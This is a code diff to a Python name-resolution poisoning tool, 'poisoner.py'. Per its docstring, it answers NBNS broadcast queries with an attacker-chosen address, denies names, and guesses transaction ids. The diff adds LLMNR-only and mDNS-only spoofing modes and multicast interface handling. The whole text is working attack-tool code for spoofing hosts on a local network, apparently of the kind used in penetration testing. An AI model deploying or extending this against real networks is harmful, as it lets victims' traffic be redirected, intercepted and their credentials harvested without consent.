@@ -5,7 +5,7 @@ It answers broadcast name queries with its own address (or --target's), and on w
 demands; denies names; or guesses ids. It holds no name and registers none. With --proxy it is a WINS proxy instead: it answers for the
 names of a table with the addresses of their true holders.
 
-usage: poisoner.py answer --address A [--target A] [--llmnr] [--only NAME,...] [--except NAME,...]
+usage: poisoner.py answer --address A [--target A] [--llmnr | --only-llmnr | --only-mdns] [--only NAME,...] [--except NAME,...]
        poisoner.py proxy --address A --table NAME:XX:ADDRESS,...
        poisoner.py deny --address A
        poisoner.py guess --to A --name NAME --suffix XX --address A [--count N]
@@ -34,6 +34,7 @@ def multicast_socket(group, port, address):
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     sock.bind(("0.0.0.0", port))
     sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton(address))
+    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
     return sock
 
 
@@ -67,9 +68,11 @@ def answer_dns(sock, address):
 
 def answer(args):
     sock = nbns_socket()
-    sockets = [sock]
-    if args.llmnr:
-        sockets += [multicast_socket("224.0.0.252", 5355, args.address), multicast_socket("224.0.0.251", 5353, args.address)]
+    sockets = [] if args.only_llmnr or args.only_mdns else [sock]
+    if args.llmnr or args.only_llmnr:
+        sockets.append(multicast_socket("224.0.0.252", 5355, args.address))
+    if args.llmnr or args.only_mdns:
+        sockets.append(multicast_socket("224.0.0.251", 5353, args.address))
     only, but = [set(filter(None, text.upper().split(","))) for text in (args.only, getattr(args, "except"))]
     print("ready", flush=True)
     while True:
@@ -127,7 +130,8 @@ def main():
     parser.add_argument("--except", default="")
     parser.add_argument("--suffix", default="20")
     parser.add_argument("--count", type=int, default=100)
-    parser.add_argument("--llmnr", action="store_true")
+    for option in ("--llmnr", "--only-llmnr", "--only-mdns"):
+        parser.add_argument(option, action="store_true")
     args = parser.parse_args()
     globals()[args.what](args)
     return 0
